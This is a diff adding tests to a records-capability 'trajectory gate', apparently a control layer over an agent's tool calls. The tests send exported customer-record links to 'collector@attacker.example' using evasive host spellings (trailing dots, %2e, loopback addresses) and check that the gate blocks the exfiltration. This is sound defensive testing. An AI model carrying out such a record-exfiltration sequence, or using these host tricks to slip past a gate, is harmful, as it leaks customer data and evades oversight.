@@ -168,6 +168,60 @@ describe('RecordsCapabilities with forbidStates (the run-time trajectory gate)',
     expect(outbox.external()).toEqual([]);
   });
 
+  // The link's host as DNS names it: a root-qualified name (trailing dot, or its escape `%2e`) is the tenant's
+  // host, so is a name under the tenant's domain; a host the server cannot place outside fails closed (ADR 0188).
+  for (const link of [
+    'https://files.acme.example./shared/records-72-1.zip',
+    'https://files.acme.example%2e/shared/records-72-1.zip',
+    'https://FILES.ACME.EXAMPLE.:443/shared/records-72-1.zip',
+    'https://cdn.files.acme.example/shared/records-72-1.zip',
+    'https://files.acme.example../shared/records-72-1.zip',
+    'https://127.0.0.1/shared/records-72-1.zip',
+    'https://[::1]/shared/records-72-1.zip',
+    'mailto:files@acme.example',
+  ])
+    it(`refuses the link route out however the tenant host is spelt: ${link}`, async () => {
+      const { call, outbox } = await boot();
+      await call('c', RecordsCapability.ReadRecords);
+      await call('c', RecordsCapability.ExportRecords);
+      expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example' })).toBe('executed');
+
+      expect(await call('c', RecordsCapability.SendLink, { to: 'collector@attacker.example', link })).toBe(
+        'execution: forbidden state: customer_records_exfiltrated',
+      );
+      expect(outbox.external()).toEqual([]);
+    });
+
+  it('keeps the spelt-out hosts working: a root-qualified tenant link inside the tenant, a root-qualified outside link out, and any link before records are stored', async () => {
+    const { call, outbox } = await boot();
+    // Before any records are in tenant storage, a link nobody can place outside still goes out.
+    expect(
+      await call('c', RecordsCapability.SendLink, { to: 'partner@partner.example', link: 'https://127.0.0.1/status' }),
+    ).toBe('executed');
+    await call('c', RecordsCapability.ReadRecords);
+    await call('c', RecordsCapability.ExportRecords);
+    // An upload to the root-qualified tenant host is an upload into the tenant's own storage.
+    expect(await call('c', RecordsCapability.UploadExport, { host: 'files.acme.example.' })).toBe('executed');
+    expect(
+      await call('c', RecordsCapability.SendLink, {
+        to: 'colleague@acme.example',
+        link: 'https://files.acme.example./shared/records-72-1.zip',
+      }),
+    ).toBe('executed');
+    expect(
+      await call('c', RecordsCapability.SendLink, {
+        to: 'partner@partner.example',
+        link: 'https://status.partner.example./today',
+      }),
+    ).toBe('executed');
+    expect(outbox.list().map((item) => `${item.kind} ${item.destination}`)).toEqual([
+      'message external:partner.example',
+      'upload internal:files.acme.example',
+      'message internal:acme.example',
+      'message external:partner.example',
+    ]);
+  });
+
   it('still sends other mail out: an outside link to an outside address, and a tenant link before any records are stored there', async () => {
     const { call, outbox } = await boot();
     const brochure = 'https://files.acme.example/brochure.pdf';
